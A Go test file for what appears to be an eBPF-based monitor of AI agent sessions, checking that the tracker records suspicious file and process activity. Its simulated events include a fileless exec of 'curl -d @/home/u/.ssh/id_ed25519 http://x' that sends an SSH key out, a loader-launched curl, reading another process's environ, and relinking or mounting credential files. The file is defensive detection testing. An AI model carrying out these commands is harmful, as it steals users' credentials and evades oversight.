package session

import (
	"os"
	"path/filepath"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/agentwatch/agentwatch/internal/semconv"
	"github.com/agentwatch/agentwatch/receiver/agentsessionreceiver/internal/kevent"
)

// identityRecorder is a Membership that knows sensitive files by inode, as
// the kernel Tracer does: ids maps identities to their canonical paths.
type identityRecorder struct {
	*recorder
	ids     map[kevent.FileID]string
	learnt  []string
	scanned []string
}

func (r *identityRecorder) Canonical(id kevent.FileID, _, _ string) (string, bool) {
	p, ok := r.ids[id]
	return p, ok
}

func (r *identityRecorder) LearnSensitive(root, p string, id kevent.FileID, homes []string) bool {
	if filepath.Base(p) != ".env" {
		return false
	}
	r.learnt = append(r.learnt, p)
	r.ids[id] = p
	return true
}

func (r *identityRecorder) ScanWorkdir(dir string) { r.scanned = append(r.scanned, dir) }

func (r *identityRecorder) HoldsSensitive(dir string, _ []string) bool { return dir == "/home/u/.ssh" }

func TestIdentityFileOpsAndWhatRan(t *testing.T) {
	tr, _ := newTestTracker(t, nil)
	key := kevent.FileID{Ino: 42, Dev: 8<<20 | 1}
	ir := &identityRecorder{recorder: newRecorder(), ids: map[kevent.FileID]string{key: "/home/u/.ssh/id_ed25519"}}
	tr.m = ir
	// a file under the process's root for the stat of a link's new name
	proc := tr.cfg.ProcRoot
	root := filepath.Join(proc, "100", "root")
	require := func(ok bool, f string, a ...any) {
		t.Helper()
		if !ok {
			t.Fatalf(f, a...)
		}
	}
	require(os.MkdirAll(filepath.Join(root, "tmp"), 0o755) == nil, "mkdir")
	require(os.WriteFile(filepath.Join(root, "tmp", ".env"), []byte("K=v"), 0o600) == nil, "write")
	var st syscall.Stat_t
	require(syscall.Stat(filepath.Join(root, "tmp", ".env"), &st) == nil, "stat")
	envID := kevent.FileIDOfStat(st.Ino, st.Dev)

	const s0 = 1000 * sec
	tr.Handle(execEv(100, s0, s0+ms, kevent.FlagExecMatched, 1, "/opt/aw/aw-agent", "/home/u/proj", "aw-agent"))
	require(len(ir.scanned) == 1 && ir.scanned[0] == "/home/u/proj", "workdir scanned at session start: %v", ir.scanned)
	// a read of a hard link of the key: the record names the key
	o := openEv(100, s0, s0+2*ms, 0, "/tmp/notes.txt", unix.O_RDONLY, 3)
	o.ID = key
	tr.Handle(o)
	// another process's environ
	pe := openEv(100, s0, s0+3*ms, kevent.FlagProcOther, "/proc/77/environ", unix.O_RDONLY, 4)
	pe.ID, pe.ProcTarget = kevent.FileID{Ino: 9, Dev: 5}, 77
	tr.Handle(pe)
	// a sensitive file given a new name by rename, and a chmod
	tr.Handle(&kevent.FileOp{Header: hdr(kevent.KindFileOp, kevent.FlagPathRaw, 100, s0, s0+4*ms), Op: kevent.OpRename,
		Path: "/home/u/proj/.env", Path2: "/tmp/.env"})
	tr.Handle(&kevent.FileOp{Header: hdr(kevent.KindFileOp, 0, 100, s0, s0+5*ms), Op: kevent.OpChmod, Mode: 0o755,
		Path: "/tmp/x.sh"})
	tr.Handle(&kevent.FileOp{Header: hdr(kevent.KindFileOp, kevent.FlagPathRaw, 100, s0, s0+6*ms), Op: kevent.OpMount, Mode: 4096 | 16384,
		Path: "/home/u/.aws", Path2: "/tmp/m"})
	// fileless, a loaded program, a pipe
	tr.Handle(forkEv(101, s0+10*ms, s0+10*ms, 100, s0))
	tr.Handle(execEv(101, s0+10*ms, s0+11*ms, kevent.FlagExeUnlinked, 100, "/memfd:c", "/home/u/proj", "curl", "-d", "@/home/u/.ssh/id_ed25519", "http://x"))
	tr.Handle(forkEv(102, s0+20*ms, s0+20*ms, 100, s0))
	ld := execEv(102, s0+20*ms, s0+21*ms, 0, 100, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/home/u/proj",
		"/lib64/ld-linux-x86-64.so.2", "--library-path", "/x", "curl", "-s", "http://x")
	ld.StdinPipe, ld.StdoutPipe = 555, 556
	tr.Handle(ld)

	logs, _ := tr.Flush(wall(s0 + 100*ms))
	got := map[string]logRec{}
	for _, l := range flatLogs(t, logs) {
		k := l.event
		if k == semconv.EventProcessExec {
			k += ":" + l.attrs[semconv.ProcessExecutableName].(string)
		}
		if k == semconv.EventFileOpen {
			k += ":" + l.attrs[semconv.FilePath].(string)
		}
		got[k] = l
	}
	link := got[semconv.EventFileOpen+":/tmp/notes.txt"].attrs
	require(link[semconv.FileCanonicalPath] == "/home/u/.ssh/id_ed25519", "canonical path: %v", link)
	require(link[semconv.FileInode] == int64(42) && link[semconv.FileDevice] == int64(unix.Mkdev(8, 1)), "identity: %v", link)
	require(got[semconv.EventFileOpen+":/proc/77/environ"].attrs[semconv.FileProcTargetPID] == int64(77), "proc target")

	ren := got[semconv.EventFileRename].attrs
	require(ren[semconv.FilePath] == "/home/u/proj/.env" && ren[semconv.FileNewPath] == "/tmp/.env", "rename paths: %v", ren)
	require(ren[semconv.FileInode] == int64(envID.Ino) && ren[semconv.FileCanonicalPath] == nil, "the renamed .env is learnt under its old name: %v", ren)
	require(len(ir.learnt) == 1 && ir.learnt[0] == "/home/u/proj/.env", "learnt %v", ir.learnt)
	require(got[semconv.EventFileChmod].attrs[semconv.FileMode] == "0755", "chmod mode: %v", got[semconv.EventFileChmod].attrs)
	mnt := got[semconv.EventFileMount].attrs
	require(mnt[semconv.FileMountFlags] == "MS_BIND|MS_REC" && mnt[semconv.FileMountPoint] == "/tmp/m", "mount: %v", mnt)

	fl := got[semconv.EventProcessExec+":memfd:c"].attrs
	require(fl[semconv.ProcessFileless] == true && fl[semconv.ProcessExecutablePath] == "/memfd:c (deleted)", "fileless: %v", got)
	lx := got[semconv.EventProcessExec+":ld-linux-x86-64.so.2"].attrs
	require(lx[semconv.ProcessProgram] == "/home/u/proj/curl", "loaded program: %v", lx)
	require(lx[semconv.ProcessStdinPipe] == int64(555) && lx[semconv.ProcessStdoutPipe] == int64(556), "pipes: %v", lx)
}

func TestLoadedProgram(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"ld.so", "/usr/bin/curl", "-s"}, "/usr/bin/curl"},
		{[]string{"ld.so", "--preload", "/x.so", "--inhibit-cache", "bin/tool"}, "/w/bin/tool"},
		{[]string{"ld.so", "--", "--odd"}, "/w/--odd"},
		{[]string{"ld.so", "--list"}, ""},
		{[]string{"ld.so", "--argv0", kevent.ArgsCut}, ""},
	} {
		if got := loadedProgram(tc.args, "/w"); got != tc.want {
			t.Errorf("loadedProgram(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
	for name, want := range map[string]bool{"ld-linux-x86-64.so.2": true, "ld-musl-x86_64.so.1": true, "ld.so": true, "ldd": false, "ld": false} {
		if isLoader(name) != want {
			t.Errorf("isLoader(%q) = %v", name, !want)
		}
	}
}

func TestProcpsHidesEnviron(t *testing.T) {
	for _, tc := range []struct {
		exe  string
		args []string
		want bool
	}{
		{"/usr/bin/ps", []string{"ps", "-o", "command=", "-p", "42"}, true},
		{"/usr/bin/ps", []string{"ps", "-o", "ppid=", "-p", "42"}, true},
		{"/usr/bin/ps", []string{"ps", "eww", "-p", "42"}, false},
		{"/usr/bin/ps", []string{"ps", "-o", "pid,env", "-p", "42"}, false},
		{"/usr/bin/ps", []string{"ps", "-oenviron"}, false},
		{"/usr/bin/ps", []string{"ps", "axe"}, false},
		{"/tmp/ps", []string{"ps", "-o", "command="}, false},
	} {
		img := &image{exe: tc.exe, args: tc.args}
		if got := procpsHidesEnviron(img, "/proc/42/environ"); got != tc.want {
			t.Errorf("%s %q: %v, want %v", tc.exe, tc.args, got, tc.want)
		}
	}
	if procpsHidesEnviron(&image{exe: "/usr/bin/ps", args: []string{"ps"}}, "/proc/42/mem") {
		t.Error("mem is never hidden")
	}
}

func TestConnectHook(t *testing.T) {
	for flags, want := range map[uint16]string{
		0:                     "tracepoint/syscalls/sys_exit_connect",
		kevent.FlagSockCgroup: "cgroup/connect4",
		kevent.FlagSockSend:   "cgroup/sendmsg4",
	} {
		e := &kevent.Connect{Header: kevent.Header{Flags: flags}, Family: 2}
		if got := connectHook(e, "tracepoint/syscalls/sys_exit_connect"); got != want {
			t.Errorf("flags %#x: %q, want %q", flags, got, want)
		}
	}
	e := &kevent.Connect{Header: kevent.Header{Flags: kevent.FlagSockSend}, Family: 10}
	if got := connectHook(e, ""); got != "cgroup/sendmsg6" {
		t.Errorf("v6 send: %q", got)
	}
}

// TestFileOpHookPerBackend: agent.hook of a change of a file names the
// LSM hook on the LSM backend, and the syscall tracepoints on the
// tracepoint backend and where the LSM backend's kernel has no path hooks.
func TestFileOpHookPerBackend(t *testing.T) {
	for _, tc := range []struct {
		name      string
		backend   string
		fallback  bool
		link, mnt string
	}{
		{"tracepoint", BackendTracepoint, false, "tracepoint/syscalls/sys_exit_link*", "tracepoint/syscalls/sys_exit_*mount"},
		{"lsm", BackendLSM, false, "lsm/path_link", "lsm/*mount"},
		{"lsm without path hooks", BackendLSM, true, "tracepoint/syscalls/sys_exit_link*", "tracepoint/syscalls/sys_exit_*mount"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr, _ := newTestTracker(t, func(c *Config) { c.Backend, c.FileOpTracepoints = tc.backend, tc.fallback })
			const s0 = 1000 * sec
			tr.Handle(execEv(100, s0, s0+ms, kevent.FlagExecMatched, 1, "/opt/aw/aw-agent", "/home/u/proj", "aw-agent"))
			tr.Handle(&kevent.FileOp{Header: hdr(kevent.KindFileOp, 0, 100, s0, s0+2*ms), Op: kevent.OpLink,
				Path: "/home/u/.ssh/id_ed25519", Path2: "/tmp/backup"})
			tr.Handle(&kevent.FileOp{Header: hdr(kevent.KindFileOp, kevent.FlagPathRaw, 100, s0, s0+3*ms), Op: kevent.OpMount,
				Mode: 4096, Path: "/home/u/.aws", Path2: "/tmp/m"})
			logs, _ := tr.Flush(wall(s0 + 100*ms))
			hooks := map[string]any{}
			for _, l := range flatLogs(t, logs) {
				hooks[l.event] = l.attrs[semconv.Hook]
			}
			if hooks[semconv.EventFileLink] != tc.link || hooks[semconv.EventFileMount] != tc.mnt {
				t.Fatalf("hooks: %v", hooks)
			}
		})
	}
}
